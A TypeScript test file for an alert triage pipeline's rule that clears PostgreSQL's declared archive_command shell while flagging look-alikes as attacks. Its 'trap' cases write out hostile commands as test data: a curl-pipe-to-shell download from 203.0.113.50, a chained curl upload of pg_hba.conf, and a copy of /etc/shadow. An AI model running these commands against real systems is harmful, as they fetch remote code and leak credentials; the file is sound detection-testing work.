/**
 * database-hooks, declared commands: a PostgreSQL container whose own arguments set archive_command (the manual's
 * `test ! -f … && cp %p …`) runs exactly that through `sh -c` for every WAL segment. Only that command, with one file
 * PostgreSQL substitutes, is the hook; anything else under the server stays command injection.
 */
import { describe, expect, it } from 'vitest';
import { triageAlert } from '../../../src/triage/pipeline.js';
import { alert, containerIdOf, indexOf, node, pod } from '../../support/cluster.js';

const N = 'till-edge-2';
const ARCHIVE = 'test ! -f /var/lib/postgresql/archive/%f && cp %p /var/lib/postgresql/archive/%f';
const mkDb = (name: string, args: string[]) =>
  pod(name, { namespace: 'store', node: N, ip: `10.1.37.${name.length}`, owner: { kind: 'StatefulSet', name: 'postgres' }, containers: [{ name: 'postgres', image: 'docker.io/library/postgres:16.4', args }] });
const db = mkDb('postgres-0', ['-c', 'wal_level=replica', '-c', 'archive_mode=on', '-c', `archive_command=${ARCHIVE}`]);
const plain = mkDb('postgres-plain-0', ['-c', 'wal_level=replica']);
const index = indexOf([node(N, '192.168.7.12'), db, plain]);
const SERVER = { name: 'postgres', commandLine: 'postgres: archiver archiving 0000000100000000000000A7' };
const SEG = '0000000100000000000000A7';
const script = `test ! -f /var/lib/postgresql/archive/${SEG} && cp pg_wal/${SEG} /var/lib/postgresql/archive/${SEG}`;
const inPod = (p: typeof db, process: { name: string; path?: string; commandLine: string }, ancestors: { name: string; commandLine?: string }[]) =>
  triageAlert(
    alert({ host: N, title: 'DB program spawned process', process, ancestors, container: { id: containerIdOf(p).slice(0, 12), name: 'postgres', pod: p.metadata.name, namespace: 'store' } }),
    { index },
  ).verdict;
const shell = (p: typeof db, commandLine: string) => inPod(p, { name: 'sh', path: '/bin/dash', commandLine }, [SERVER]);

describe('database-hooks: the archive_command the container declares', () => {
  it('explains the shell postgres starts for the declared archive_command, one WAL segment substituted', () => {
    const v = shell(db, `sh -c ${script}`);
    expect(v).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
    expect(v.reasons.find((r) => r.rule === 'database-hooks')?.message).toMatch(/archive_command its own arguments set/);
  });
  it('explains the cp that shell runs', () => {
    const v = inPod(db, { name: 'cp', path: '/usr/bin/cp', commandLine: `cp pg_wal/${SEG} /var/lib/postgresql/archive/${SEG}` }, [{ name: 'sh', commandLine: `sh -c ${script}` }, SERVER]);
    expect(v).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
  });
  it('trap: download-and-execute under the same server (COPY … TO PROGRAM)', () => {
    expect(shell(db, 'sh -c curl -s http://203.0.113.50/p.sh|sh')).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
  it('trap: the declared command with a second command chained to it', () => {
    expect(shell(db, `sh -c ${script} && curl -s -T /var/lib/postgresql/data/pg_hba.conf http://203.0.113.50/`).label).toBe('genuine');
  });
  it('trap: the declared shape copying a file PostgreSQL did not hand over', () => {
    expect(shell(db, `sh -c test ! -f /var/lib/postgresql/archive/${SEG} && cp /etc/shadow /var/lib/postgresql/archive/${SEG}`).label).toBe('genuine');
    expect(shell(db, `sh -c test ! -f /tmp/x/${SEG} && cp pg_wal/${SEG} /tmp/x/${SEG}`).label).toBe('genuine');
  });
  it('trap: the same command in a postgres container that declares no archive_command', () => {
    expect(shell(plain, `sh -c ${script}`).label).toBe('genuine');
  });
});
